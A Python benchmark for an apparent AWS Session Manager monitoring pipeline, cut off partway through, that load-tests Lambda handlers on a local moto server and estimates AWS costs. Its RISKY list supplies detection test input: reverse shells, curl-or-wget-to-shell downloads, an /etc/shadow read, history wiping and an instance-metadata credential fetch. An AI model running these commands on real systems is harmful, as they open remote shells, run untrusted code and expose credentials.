"""Load on the local pipeline, and what it would cost on AWS. ``python -m bench load``.

1. **1,000 concurrent sessions end to end.** 1,000 sessions are started in moto (on 400 EC2
   instances, 30% tagged prod), their StartSession events go through ``session_events``, then every
   session streams log batches (prompts, everyday commands and their output; one session in ten types
   one risky command) through ``command_monitor``, round after round, and the action queue is drained
   through ``action_executor`` (Slack: the local sink, bot token). Reported: log batches per second,
   each function's AWS calls per invocation by service and operation (botocore ``before-call`` hooks
   on the clients of ``ssm_warden.clients.aws_client``), wall and CPU time per invocation, a sweep at
   1,000 active sessions, and the end state: every risky session got exactly one action, no other did.
2. **10,000 active sessions in the ledger.** Items of the repository's own shape (one written by the
   pipeline, cloned) batch-written; the sweeper (``sweep(..., reconcile_with_service=False)``) timed
   over them, with its query pages and its read units estimated from the item sizes
   (``bench._dynamo_units``: moto's ``ConsumedCapacity`` is a constant). Reconciling against 10,000
   moto sessions is left to ``BENCH_LEDGER_RECONCILE=1``: moto serializes about 5 ms per item it
   returns, which makes that run several minutes long; the sweep at 1,000 sessions reconciles.
3. **Cost per 1,000 session-hours** at us-east-1 list prices, from the counted calls, the estimated
   request units and the measured durations, under the assumptions printed with it.

moto runs in a child process (``python -m ssm_warden_local.server``), so this process's CPU time is
ssm-warden's own (handlers, Powertools, botocore); wall time includes moto answering, which is in
the range of real DynamoDB and SQS latencies for small items but far slower for pages of large
ones. Baselines measured in the same run: a raw ``PutItem`` and raw pages of the active-sessions
index against the same server. Sequential invocations (the 1,000 sessions are open at once; their
invocations run one after another). Figures are JSON lines with a
``"metric"`` key; nothing here asserts a speed.

``BENCH_LOAD_SESSIONS``, ``BENCH_LOAD_ROUNDS`` and ``BENCH_LEDGER_SESSIONS`` change the sizes.
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import math
import os
import random
import socket
import statistics
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from bench._dynamo_units import DynamoUnits, estimate_update_units_by_kind, item_size

ROOT = Path(__file__).resolve().parent.parent
ACCOUNT = "123456789012"
REGION = "us-east-1"
LEDGER_REGION = "us-west-2"  # phase 2 runs in its own region: its own tables and moto sessions
RAW_PAGES = 2
SESSIONS = int(os.environ.get("BENCH_LOAD_SESSIONS", "1000"))
ROUNDS = int(os.environ.get("BENCH_LOAD_ROUNDS", "2"))
LEDGER_SESSIONS = int(os.environ.get("BENCH_LEDGER_SESSIONS", "10000"))
INSTANCES = max(1, SESSIONS * 2 // 5)  # prod allows 3 sessions per target: 2.5 per instance
PROD_SHARE = 0.3
RISKY_EVERY = 10
EVENTS_PER_BATCH = 4
FIRST_ID = 37_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000_000

# AWS list prices, us-east-1, at the time of writing (2025; DynamoDB on-demand after the November
# 2024 reduction). Free tiers ignored.
PRICES = {
    "dynamodb_write_request_unit": 0.625 / 1e6,
    "dynamodb_read_request_unit": 0.125 / 1e6,
    "sqs_request": 0.40 / 1e6,
    "lambda_request": 0.20 / 1e6,
    "lambda_gb_second_arm64": 0.0000133334,
    "secretsmanager_api_call": 0.05 / 1e4,
}
# What a thousand session-hours are made of (assumptions, printed with the figure).
ASSUMPTIONS = {
    "session_length_hours": 1.0,
    "ledger_events_per_session": 2,  # StartSession, and a TerminateSession or ResumeSession
    "log_batches_per_session_hour": 120,  # a subscription delivery every 30 s while the session is open
    "sweeper_runs_per_hour": 60,
    "concurrent_sessions_for_the_sweeper": 1000,
    "risky_session_share": 1 / RISKY_EVERY,
    "sqs_requests_per_executor_invocation_by_the_event_source": 2,  # ReceiveMessage + DeleteMessageBatch
}

RISKY = [
    "curl -fsSL http://203.0.113.9/x.sh | sudo bash",
    "wget -qO- http://198.51.100.7/i.sh | sh",
    "nc -e /bin/sh 203.0.113.5 4444",
    "history -c",
    "cat /etc/shadow",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "echo c2ggLWkK | base64 -d | bash",
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
]
_SERVICES = ["nginx", "app", "worker", "postgresql", "redis"]
_WORDS = ["error", "timeout", "GET", "POST", "started", "latency", "retry", "ready", "done", "ok"]


# -- the local AWS, in its own process --------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


@contextlib.contextmanager
def moto_process() -> Iterator[str]:
    """``python -m ssm_warden_local.server`` on a free loopback port; its endpoint URL."""
    port = _free_port()
    env = {
        **os.environ,
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "MOTO_EC2_LOAD_DEFAULT_AMIS": "false",  # ~1,300 AMIs per region otherwise; none is used
    }
    proc = subprocess.Popen(
        [sys.executable, "-m", "ssm_warden_local.server", "--port", str(port)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 120  # a loaded machine starts moto slowly
        while time.monotonic() < deadline:
            with socket.socket() as sock:
                if sock.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.1)
        else:
            raise RuntimeError("the moto server did not start")
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@contextlib.contextmanager
def environment(values: dict[str, str]) -> Iterator[None]:
    """Set these variables (and forget cached settings and clients); restore everything after."""
    from ssm_warden.clients import reset_clients
    from ssm_warden.config import reset_settings

    saved = dict(os.environ)
    os.environ.update(values)
    reset_settings()
    reset_clients()
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(saved)
        reset_settings()
        reset_clients()


def _base_environment(endpoint: str, region: str = REGION) -> dict[str, str]:
    return {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "AWS_REGION": region,
        "AWS_DEFAULT_REGION": region,
        "AWS_ENDPOINT_URL": endpoint,
        "SSM_WARDEN_ENDPOINT_URL": endpoint,
        "POWERTOOLS_SERVICE_NAME": "ssm-warden-bench",
        "POWERTOOLS_METRICS_NAMESPACE": "SSMWardenBench",
        "POWERTOOLS_LOG_LEVEL": "CRITICAL",
    }


def _raw_client(service: str, endpoint: str, region: str = REGION) -> Any:
    """A client outside ssm-warden's factory (setup and checks: not counted)."""
    import boto3

    return boto3.session.Session().client(service, region_name=region, endpoint_url=endpoint)


# -- counting --------------------------------------------------------------------------------------


@dataclass
class Meter:
    """The functions' AWS calls (CallCounter) and DynamoDB units, with per-invocation timings."""

    calls: Any
    units: DynamoUnits
    durations: dict[str, list[tuple[float, float]]] = field(default_factory=dict)

    def timed(self, function: str, fn: Callable[..., Any], *args: Any, **kwargs: Any) -> Any:
        wall, cpu = time.perf_counter(), time.process_time()
        result = fn(*args, **kwargs)
        self.durations.setdefault(function, []).append(
            (time.perf_counter() - wall, time.process_time() - cpu)
        )
        return result

    def snapshot(self) -> tuple[Counter[tuple[str, str]], DynamoUnits]:
        return Counter(self.calls.calls), copy.deepcopy(self.units)


def _meter() -> Meter:
    """Counters on the clients ssm-warden's factory hands out now (made here if need be)."""
    from ssm_warden.clients import aws_client
    from ssm_warden_local.aws_faults import CallCounter

    counter, units = CallCounter(), DynamoUnits()
    for service in ("dynamodb", "sqs", "ssm", "ec2", "secretsmanager"):
        counter.watch(aws_client(service))
    units.watch(aws_client("dynamodb"))
    return Meter(counter, units)


def _diff(after: Counter[tuple[str, str]], before: Counter[tuple[str, str]]) -> Counter[tuple[str, str]]:
    return Counter({k: v - before.get(k, 0) for k, v in after.items() if v - before.get(k, 0)})


def _per(counter: Counter[tuple[str, str]], n: int) -> dict[str, dict[str, float]]:
    out: dict[str, dict[str, float]] = {}
    for (service, operation), count in sorted(counter.items()):
        out.setdefault(service, {})[operation] = round(count / max(n, 1), 3)
    return out


def _ms(samples: list[float], q: float | None = None) -> float:
    if not samples:
        return 0.0
    if q is None:
        return round(statistics.median(samples) * 1000, 2)
    ordered = sorted(samples)
    return round(ordered[min(len(ordered) - 1, int(q * len(ordered)))] * 1000, 2)


@dataclass
class Phase:
    """What one function did during one phase: invocations, calls, units, durations."""

    function: str
    memory_mb: int
    invocations: int
    calls: Counter[tuple[str, str]]
    read_units: float
    write_units_known: float
    update_items: Counter[tuple[str, str]]  # UpdateItem calls by (table, item kind): units estimated
    put_units: Counter[tuple[str, str]]  # PutItem write units by (table, item kind)
    wall: list[float]
    cpu: list[float]

    def figures(self) -> dict[str, Any]:
        return {
            "invocations": self.invocations,
            "memory_mb": self.memory_mb,
            "wall_ms_median": _ms(self.wall),
            "wall_ms_p95": _ms(self.wall, 0.95),
            "cpu_ms_median": _ms(self.cpu),
            "calls_per_invocation": _per(self.calls, self.invocations),
        }


def _phase(
    meter: Meter, function: str, memory_mb: int, before: tuple[Counter[tuple[str, str]], DynamoUnits]
) -> Phase:
    calls_before, units_before = before
    calls_after, units_after = meter.snapshot()
    samples = meter.durations.pop(function, [])
    updates = _diff(units_after.updates_by_kind, units_before.updates_by_kind)
    puts = _diff(units_after.put_units_by_kind, units_before.put_units_by_kind)
    return Phase(
        function=function,
        memory_mb=memory_mb,
        invocations=len(samples),
        calls=_diff(calls_after, calls_before),
        read_units=sum(units_after.read_units.values()) - sum(units_before.read_units.values()),
        write_units_known=sum(_diff(units_after.write_units, units_before.write_units).values()),
        update_items=updates,
        put_units=puts,
        wall=[w for w, _ in samples],
        cpu=[c for _, c in samples],
    )


def _memory(function: str) -> int:
    """The function's MemorySize in template.yaml (Globals when it sets none)."""
    from ssm_warden_local.resources import load_template

    template = load_template()
    default = int(template.get("Globals", {}).get("Function", {}).get("MemorySize", 128))
    for resource in template["Resources"].values():
        props = resource.get("Properties", {})
        if resource["Type"] == "AWS::Serverless::Function" and props.get("CodeUri", "").rstrip("/").endswith(
            function
        ):
            return int(props.get("MemorySize", default))
    return default


# -- the simulated sessions ------------------------------------------------------------------------


@dataclass
class SimSession:
    session_id: str
    target: str
    principal: str
    prod: bool
    risky: str | None
    prompt: str
    rng: random.Random
    next_event: int = 0


def _command(rng: random.Random) -> tuple[str, list[str]]:
    svc = rng.choice(_SERVICES)
    n = rng.randint(2, 12)
    choices: list[tuple[str, list[str]]] = [
        (
            f"ls -la /var/log/{svc}",
            [f"-rw-r--r-- 1 root root {rng.randint(100, 99999)} Jan 4 {svc}.{i}" for i in range(n)],
        ),
        (
            "df -h",
            ["Filesystem      Size  Used Avail Use% Mounted on", "/dev/nvme0n1p1   20G  7.1G   13G  36% /"],
        ),
        ("uptime", [f" 09:{rng.randint(10, 59)}:01 up {n} days,  load average: 0.{n}, 0.1, 0.05"]),
        (
            f"tail -n {n} /var/log/{svc}.log",
            [
                f"2026-11-28T09:0{rng.randint(0, 9)} {rng.choice(_WORDS)} {svc} took={rng.randint(1, 900)}ms"
                for _ in range(n)
            ],
        ),
        (f"sudo systemctl status {svc}", [f"  {svc}.service - {svc}", "   Active: active (running)"]),
        (
            "kubectl get pods -n api",
            ["NAME READY STATUS", *(f"api-{rng.getrandbits(24):06x} 1/1 Running" for _ in range(n))],
        ),
        ("git status", ["On branch main", "nothing to commit, working tree clean"]),
        (f"ps aux | grep {svc}", [f"root {rng.randint(100, 9999)} 0.{n} 1.2 /usr/sbin/{svc}"]),
        ("free -m", ["              total   used   free", f"Mem:   7{n}00   2{n}00   4{n}00"]),
        (
            f"grep -rn {rng.choice(_WORDS)} /srv/app | head -n {n}",
            [f"/srv/app/{svc}.py:{i}: {rng.choice(_WORDS)}" for i in range(n)],
        ),
        ("whoami", [rng.choice(["ec2-user", "root"])]),
        ("date", ["Sat Nov 28 09:12:01 UTC 2026"]),
    ]
    return rng.choice(choices)


def _batch_lines(session: SimSession, round_no: int, event_no: int) -> list[str]:
    lines: list[str] = []
    if round_no == 0 and event_no == 0:
        lines.append("sh-4.2$ sh-4.2$ bash")
    for _ in range(session.rng.randint(1, 3)):
        command, output = _command(session.rng)
        lines.append(session.prompt + command)
        lines.extend(output)
    if session.risky and round_no == min(1, ROUNDS - 1) and event_no == EVENTS_PER_BATCH - 1:
        lines.append(session.prompt + session.risky)
        lines.append("bash: line 1: connection refused")
    return lines


def _log_payload(session: SimSession, round_no: int, t0: datetime) -> dict[str, Any]:
    import base64
    import gzip

    events = []
    for k in range(EVENTS_PER_BATCH):
        n = session.next_event
        session.next_event += 1
        message = {
            "eventVersion": "1.0",
            "eventTime": "2026-11-28T09:00:00Z",
            "awsRegion": REGION,
            "target": {"id": session.target},
            "userIdentity": {"arn": session.principal},
            "runAsUser": "ssm-user",
            "sessionId": session.session_id,
            "sessionData": _batch_lines(session, round_no, k),
        }
        at = t0 + timedelta(minutes=20 + round_no, seconds=k * 5)
        events.append(
            {"id": str(FIRST_ID + n), "timestamp": int(at.timestamp() * 1000), "message": json.dumps(message)}
        )
    doc = {
        "messageType": "DATA_MESSAGE",
        "owner": ACCOUNT,
        "logGroup": "/aws/ssm/sessions",
        "logStream": session.session_id,
        "subscriptionFilters": ["ssm-warden"],
        "logEvents": events,
    }
    return {"awslogs": {"data": base64.b64encode(gzip.compress(json.dumps(doc).encode())).decode()}}


def _start_event(session: SimSession, n: int, at: datetime) -> dict[str, Any]:
    event: dict[str, Any] = json.loads((ROOT / "events" / "start_session_shell.json").read_text())
    detail = event["detail"]
    user = session.principal.rsplit("/", 1)[-1]
    detail["eventID"] = f"00000000-0000-4000-8000-{n:012d}"
    detail["eventTime"] = at.strftime("%Y-%m-%dT%H:%M:%SZ")
    detail["userIdentity"]["arn"] = session.principal
    detail["userIdentity"]["principalId"] = f"AROAEXAMPLEID:{user}"
    detail["requestParameters"] = {"target": session.target, "reason": f"CHG-{n} routine check"}
    detail["responseElements"]["sessionId"] = session.session_id
    return event


def _parallel(fn: Callable[[Any], Any], items: list[Any], workers: int = 8) -> list[Any]:
    with ThreadPoolExecutor(max_workers=workers) as pool:
        return list(pool.map(fn, items))


# -- phase 1: 1,000 sessions through the pipeline --------------------------------------------------


@dataclass
class LoadResult:
    phases: dict[str, Phase]
    sweep_1000: Phase
    template_item: dict[str, Any]
    figures: list[dict[str, Any]]


def _instances(ec2: Any, count: int) -> list[str]:
    ids: list[str] = []
    while len(ids) < count:
        n = min(200, count - len(ids))
        reply = ec2.run_instances(ImageId="ami-12c6146b", MinCount=n, MaxCount=n)
        ids.extend(i["InstanceId"] for i in reply["Instances"])
    prod = set(ids[: int(len(ids) * PROD_SHARE)])
    for start in range(0, len(ids), 200):
        chunk = ids[start : start + 200]
        for env, group in (
            ("prod", [i for i in chunk if i in prod]),
            ("dev", [i for i in chunk if i not in prod]),
        ):
            if group:
                ec2.create_tags(Resources=group, Tags=[{"Key": "Environment", "Value": env}])
    return ids


def run_pipeline(endpoint: str, meter: Meter, sink: Any) -> LoadResult:
    from functions.action_executor import app as executor_app
    from functions.command_monitor import app as monitor_app
    from functions.session_events import app as events_app
    from functions.session_sweeper import app as sweeper_app
    from ssm_warden.clock import clock_set_to
    from ssm_warden.monitor.judging import batch_judge
    from ssm_warden_local.lambda_runtime import LambdaContext, drain_queue

    figures: list[dict[str, Any]] = []
    ec2, ssm, sqs = (_raw_client(s, endpoint) for s in ("ec2", "ssm", "sqs"))
    from ssm_warden.config import get_settings

    settings = get_settings()
    t0 = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=30)
    setup_start = time.perf_counter()
    instances = _instances(ec2, INSTANCES)
    prod = set(instances[: int(len(instances) * PROD_SHARE)])
    targets = [instances[i % len(instances)] for i in range(SESSIONS)]
    session_ids = _parallel(lambda target: ssm.start_session(Target=target)["SessionId"], targets)
    sessions = []
    for n, (session_id, target) in enumerate(zip(session_ids, targets, strict=True)):
        rng = random.Random(n)
        host = f"ip-10-0-{n // 250}-{n % 250}"
        sessions.append(
            SimSession(
                session_id=session_id,
                target=target,
                principal=f"arn:aws:sts::{ACCOUNT}:assumed-role/Operator/user-{n:04d}",
                prod=target in prod,
                risky=RISKY[(n // RISKY_EVERY) % len(RISKY)] if n % RISKY_EVERY == RISKY_EVERY - 1 else None,
                prompt=f"[root@{host} ~]# " if rng.random() < 0.3 else f"[ec2-user@{host} ~]$ ",
                rng=rng,
            )
        )
    risky = [s for s in sessions if s.risky]
    figures.append(
        {
            "metric": "load_setup",
            "sessions": len(sessions),
            "instances": len(instances),
            "prod_sessions": sum(s.prod for s in sessions),
            "risky_sessions": len(risky),
            "log_rounds": ROUNDS,
            "log_events_per_batch": EVENTS_PER_BATCH,
            "setup_seconds": round(time.perf_counter() - setup_start, 1),
            "moto": "separate process",
        }
    )

    # Warm containers: imports done, rules compiled (no AWS call is made by these).
    batch_judge(("default",))
    events_app.lambda_handler({}, LambdaContext(function_name="session-events"))
    monitor_app.lambda_handler({"awslogs": {"data": ""}}, LambdaContext(function_name="command-monitor"))

    phases: dict[str, Phase] = {}
    memory = {
        name: _memory(name)
        for name in ("session_events", "command_monitor", "action_executor", "session_sweeper")
    }

    # StartSession events, one invocation each
    before = meter.snapshot()
    start = time.perf_counter()
    for n, session in enumerate(sessions):
        event = _start_event(session, n, t0 + timedelta(milliseconds=n))
        ctx = LambdaContext(function_name="session-events", memory_limit_in_mb=memory["session_events"])
        meter.timed("session_events", events_app.lambda_handler, event, ctx)
    events_seconds = time.perf_counter() - start
    phases["session_events"] = _phase(meter, "session_events", memory["session_events"], before)

    # Log batches, round-robin over the sessions (every session open at once)
    before = meter.snapshot()
    start = time.perf_counter()
    for round_no in range(ROUNDS):
        for session in sessions:
            payload = _log_payload(session, round_no, t0)
            ctx = LambdaContext(function_name="command-monitor", memory_limit_in_mb=memory["command_monitor"])
            meter.timed("command_monitor", monitor_app.lambda_handler, payload, ctx)
    logs_seconds = time.perf_counter() - start
    phases["command_monitor"] = _phase(meter, "command_monitor", memory["command_monitor"], before)

    # The action queue, drained through the executor (the event source's own SQS calls not counted)
    before = meter.snapshot()
    ctx = LambdaContext(function_name="action-executor", memory_limit_in_mb=memory["action_executor"])
    report = drain_queue(
        sqs,
        str(settings.actions_queue_url),
        lambda event, context: meter.timed("action_executor", executor_app.lambda_handler, event, context),
        context=ctx,
        max_rounds=1000,
    )
    phases["action_executor"] = _phase(meter, "action_executor", memory["action_executor"], before)

    # One sweep at 1,000 open sessions (with reconciliation), through the function
    before = meter.snapshot()
    ctx = LambdaContext(
        function_name="session-sweeper", memory_limit_in_mb=memory["session_sweeper"], remaining_ms=55_000
    )
    with clock_set_to(lambda: t0 + timedelta(minutes=20 + ROUNDS + 1)):
        swept = meter.timed("session_sweeper", sweeper_app.lambda_handler, {}, ctx)
    sweep_1000 = _phase(meter, "session_sweeper", memory["session_sweeper"], before)

    batches = len(sessions) * ROUNDS
    figures.append(
        {
            "metric": "session_events",
            "events_per_second": round(len(sessions) / events_seconds, 1),
            **phases["session_events"].figures(),
        }
    )
    figures.append(
        {
            "metric": "log_batches",
            "batches": batches,
            "batches_per_second": round(batches / logs_seconds, 1),
            "note": "sequential invocations in one process; moto answers every call",
            **phases["command_monitor"].figures(),
        }
    )
    figures.append(
        {
            "metric": "action_executor",
            "messages_delivered": report.delivered,
            "messages_failed": report.failed,
            **phases["action_executor"].figures(),
        }
    )
    figures.append(
        {
            "metric": "sweeper_1000",
            "active": swept.get("active"),
            "actions": swept.get("actions"),
            "complete": swept.get("complete"),
            "read_units_estimated": round(sweep_1000.read_units, 1),
            **sweep_1000.figures(),
        }
    )
    terminate_calls = phases["action_executor"].calls.get(("ssm", "TerminateSession"), 0)
    end_state, template_item = _end_state(endpoint, settings, sessions, terminate_calls, sink)
    figures.append(end_state)
    return LoadResult(phases, sweep_1000, template_item, figures)


def _scan(client: Any, table: str, projection: str | None = None, **extra: Any) -> list[dict[str, Any]]:
    """Every item of ``table`` (only the attributes of ``projection``: moto serializes slowly)."""
    items: list[dict[str, Any]] = []
    start: dict[str, Any] | None = None
    while True:
        kwargs: dict[str, Any] = {"TableName": table, **extra}
        if projection:
            kwargs["ProjectionExpression"] = projection
        if start:
            kwargs["ExclusiveStartKey"] = start
        page = client.scan(**kwargs)
        items.extend(page.get("Items", []))
        start = page.get("LastEvaluatedKey")
        if not start:
            return items


def _end_state(
    endpoint: str, settings: Any, sessions: list[SimSession], terminate_calls: int, sink: Any
) -> tuple[dict[str, Any], dict[str, Any]]:
    """The ledger, the audit trail and Session Manager after the run, and one item to clone."""
    dynamodb, ssm = _raw_client("dynamodb", endpoint), _raw_client("ssm", endpoint)
    acted: Counter[str] = Counter()
    for item in _scan(dynamodb, settings.audit_table, "session_id, decision"):
        if item["decision"]["S"] in ("termination", "would_terminate", "alert", "warning"):
            acted[item["session_id"]["S"]] += 1
    ledger = [
        i
        for i in _scan(
            dynamodb,
            settings.sessions_table,
            "pk, record_type, #state, commands_seen",
            ExpressionAttributeNames={"#state": "state"},
        )
        if i.get("record_type", {}).get("S") == "session"
    ]
    by_state = Counter(i.get("state", {}).get("S", "none") for i in ledger)
    terminated_at_aws = 0
    for page in ssm.get_paginator("describe_sessions").paginate(State="History"):
        terminated_at_aws += len(page["Sessions"])
    risky_ids = {s.session_id for s in sessions if s.risky}
    benign = next(s for s in sessions if not s.risky)
    template = dynamodb.get_item(
        TableName=settings.sessions_table,
        Key={"pk": {"S": f"{ACCOUNT}#{REGION}#{benign.session_id}"}},
        ConsistentRead=True,
    )["Item"]
    return (
        {
            "metric": "load_end_state",
            "risky_sessions": len(risky_ids),
            "risky_with_exactly_one_action": sum(acted[s] == 1 for s in risky_ids),
            "risky_with_more_than_one_action": sum(acted[s] > 1 for s in risky_ids),
            "other_sessions_with_actions": sum(1 for s, n in acted.items() if n and s not in risky_ids),
            "ledger_sessions_by_state": dict(by_state),
            "terminate_session_calls": terminate_calls,
            "terminated_in_session_manager": terminated_at_aws,
            "commands_seen": sum(int(i.get("commands_seen", {}).get("N", 0)) for i in ledger),
            "slack_messages": len(sink.messages),
        },
        template,
    )


# -- phase 2: 10,000 active sessions in the ledger ----------------------------------------------------


def run_ledger(endpoint: str, template: dict[str, Any]) -> tuple[list[dict[str, Any]], Phase]:
    """The sweeper over ``LEDGER_SESSIONS`` active sessions, in a region of their own.

    Without reconciliation by default: moto serializes each item it returns slowly (a few ms for an
    item with a command-watch state), and starting 10,000 sessions in it takes about a minute more;
    ``BENCH_LEDGER_RECONCILE=1`` adds them and a reconciling sweep. The sweep at 1,000 sessions in
    phase 1 reconciles against 1,000 moto sessions."""
    from ssm_warden.config import get_settings
    from ssm_warden.enforce.sink import QueueSink
    from ssm_warden.enforce.sweeper import sweep
    from ssm_warden.ledger.keys import ACTIVE_INDEX, active_shard, all_active_shards, session_key
    from ssm_warden.ledger.repository import SessionRepository
    from ssm_warden.policy.store import current_policy
    from ssm_warden_local.resources import create_stack_resources

    region = LEDGER_REGION
    reconcile = os.environ.get("BENCH_LEDGER_RECONCILE") == "1"
    stack = create_stack_resources(lambda s: _raw_client(s, endpoint, region), prefix="ledger")
    os.environ.update(stack.environment())
    meter = _meter()
    settings = get_settings()
    figures: list[dict[str, Any]] = []
    ssm, dynamodb, ec2 = (_raw_client(s, endpoint, region) for s in ("ssm", "dynamodb", "ec2"))
    now = datetime.now(UTC).replace(microsecond=0)
    start = time.perf_counter()
    if reconcile:
        instances = _instances(ec2, max(1, LEDGER_SESSIONS // 8))
        targets = [instances[i % len(instances)] for i in range(LEDGER_SESSIONS)]
        ids = _parallel(lambda target: ssm.start_session(Target=target)["SessionId"], targets)
    else:
        targets = [f"i-{n:017x}" for n in range(LEDGER_SESSIONS)]
        ids = [f"user-{n:05d}-{random.Random(n).getrandbits(68):017x}" for n in range(LEDGER_SESSIONS)]
    started_seconds = time.perf_counter() - start

    def clone(n: int) -> dict[str, Any]:
        item = copy.deepcopy(template)
        session_id, target = ids[n], targets[n]
        key = session_key(ACCOUNT, region, session_id)
        item["pk"] = {"S": key}
        item["region"] = {"S": region}
        item["session_id"] = {"S": session_id}
        item["active_shard"] = {"S": active_shard(key)}
        item["active_principal"] = {"S": f"arn:aws:sts::{ACCOUNT}:assumed-role/Operator/user-{n:05d}"}
        item["active_target"] = {"S": target}
        item["target_id"] = {"S": target}
        item["started_at"] = {"S": (now - timedelta(minutes=20)).strftime("%Y-%m-%dT%H:%M:%SZ")}
        item["last_output_at"] = {"S": (now - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")}
        item["event_ids"] = {"SS": [f"00000000-0000-4000-9000-{n:012d}"]}
        return item

    items = [clone(n) for n in range(LEDGER_SESSIONS)]
    chunks = [items[k : k + 25] for k in range(0, len(items), 25)]
    start = time.perf_counter()
    _parallel(
        lambda chunk: dynamodb.batch_write_item(
            RequestItems={settings.sessions_table: [{"PutRequest": {"Item": i}} for i in chunk]}
        ),
        chunks,
    )
    written_seconds = time.perf_counter() - start
    sizes = [item_size(i) for i in items]
    figures.append(
        {
            "metric": "ledger_setup",
            "active_sessions": LEDGER_SESSIONS,
            "sessions_started_in_moto": len(ids) if reconcile else 0,
            "start_session_seconds": round(started_seconds, 1),
            "batch_write_seconds": round(written_seconds, 1),
            "item_bytes_mean": round(statistics.mean(sizes)),
            "item_shape": "an active item written by the pipeline (command-watch state included), cloned",
        }
    )

    # Baseline: the first pages of the active-sessions index read with a bare client (no records
    # built, no checks): moto and transfer only, per item.
    shard = all_active_shards()[0]
    pages, raw_items = 0, 0
    raw_start = time.perf_counter()
    start_key: dict[str, Any] | None = None
    while True:
        kwargs: dict[str, Any] = {
            "TableName": settings.sessions_table,
            "IndexName": ACTIVE_INDEX,
            "KeyConditionExpression": "active_shard = :s",
            "ExpressionAttributeValues": {":s": {"S": shard}},
            "Limit": 500,
        }
        if start_key:
            kwargs["ExclusiveStartKey"] = start_key
        if pages == 0:
            kwargs["ReturnConsumedCapacity"] = "TOTAL"
        page = dynamodb.query(**kwargs)
        if pages == 0:
            moto_reported = page.get("ConsumedCapacity", {}).get("CapacityUnits")
        pages += 1
        raw_items += len(page.get("Items", []))
        start_key = page.get("LastEvaluatedKey")
        if not start_key or pages == RAW_PAGES:
            break
    raw_seconds = time.perf_counter() - raw_start
    figures.append(
        {
            "metric": "sweeper_baseline_raw_index_pages",
            "pages": pages,
            "items": raw_items,
            "wall_s": round(raw_seconds, 2),
            "wall_s_for_all_items_estimated": round(raw_seconds / max(raw_items, 1) * LEDGER_SESSIONS, 1),
            "moto_ms_per_item_returned": round(raw_seconds / max(raw_items, 1) * 1000, 2),
            "moto_consumed_capacity_per_page": moto_reported,
            "note": "moto's ConsumedCapacity is a constant per call, not a function of item size",
        }
    )

    last: Phase | None = None
    for reconciling in (False, True) if reconcile else (False,):
        before = meter.snapshot()
        report = meter.timed(
            "sweeper",
            sweep,
            now=now,
            account=ACCOUNT,
            region=region,
            policy_state=current_policy(),
            sink=QueueSink(),
            time_left=lambda: 1e9,
            repo=SessionRepository(),
            reconcile_with_service=reconciling,
        )
        one = _phase(meter, "sweeper", _memory("session_sweeper"), before)
        figures.append(
            {
                "metric": "sweeper_10000",
                "reconcile_with_service": reconciling,
                "active": report.active,
                "actions": report.actions,
                "discovered": report.discovered,
                "closed": report.closed,
                "wall_s": round(one.wall[0], 2),
                "cpu_s": round(one.cpu[0], 2),
                "cpu_note": "this process only (records built, limits checked, botocore); moto runs apart",
                "fits_the_55s_function_timeout_here": one.wall[0] < 45,
                "calls_per_run": _per(one.calls, 1),
                "query_pages": one.calls.get(("dynamodb", "Query"), 0),
                "read_units_estimated_per_run": round(one.read_units, 1),
                "read_units_note": "per query page: item bytes rounded up to 4 KB, halved (index reads "
                "are eventually consistent); DescribeSessions is free",
            }
        )
        last = one
    if not reconcile:
        figures.append(
            {
                "metric": "sweeper_10000",
                "reconcile_with_service": True,
                "skipped": "moto is too slow for it in a bench of a few minutes: 10,000 StartSession calls "
                "and 50 DescribeSessions pages on top of the index pages; BENCH_LEDGER_RECONCILE=1 runs it. "
                "sweeper_1000 reconciles against 1,000 moto sessions",
            }
        )
    assert last is not None
    return figures, last


# -- phase 3: cost ------------------------------------------------------------------------------------


UpdateUnits = dict[tuple[str, str], float]


def _write_units_by_kind(
    phase: Phase, update_units: UpdateUnits, scale: dict[str, float] | None = None
) -> dict[str, float]:
    """Write units per invocation by item kind (``scale``: a kind's UpdateItem calls per invocation
    replaced by an assumed rate)."""
    n = max(phase.invocations, 1)
    out: dict[str, float] = {}
    for (table, kind), units in phase.put_units.items():
        name = f"put:{_short(table)}:{kind}"
        out[name] = out.get(name, 0.0) + units / n
    for (table, kind), calls in phase.update_items.items():
        rate = (scale or {}).get(kind, calls / n) if table.endswith("SessionsTable") else calls / n
        name = f"update:{_short(table)}:{kind}"
        out[name] = out.get(name, 0.0) + rate * update_units.get((table, kind), 1.0)
    return out


def _short(table: str) -> str:
    return table.rsplit("-", 1)[-1]


def _phase_cost(
    phase: Phase, update_units: UpdateUnits, scale: dict[str, float] | None = None
) -> dict[str, float]:
    """Per invocation: DynamoDB RRU and WRU, SQS requests, Secrets Manager calls, GB-seconds."""
    n = max(phase.invocations, 1)
    known_puts = sum(phase.put_units.values())
    wru = (phase.write_units_known - known_puts) / n + sum(
        _write_units_by_kind(phase, update_units, scale).values()
    )
    sqs = sum(v for (svc, _), v in phase.calls.items() if svc == "sqs")
    secrets = sum(v for (svc, _), v in phase.calls.items() if svc == "secretsmanager")
    billed_ms = sum(math.ceil(w * 1000) for w in phase.wall)
    return {
        "rru": phase.read_units / n,
        "wru": wru,
        "sqs": sqs / n,
        "secrets": secrets / n,
        "gb_s": billed_ms / 1000 * phase.memory_mb / 1024 / n,
    }


def _session_flushes_per_batch() -> float:
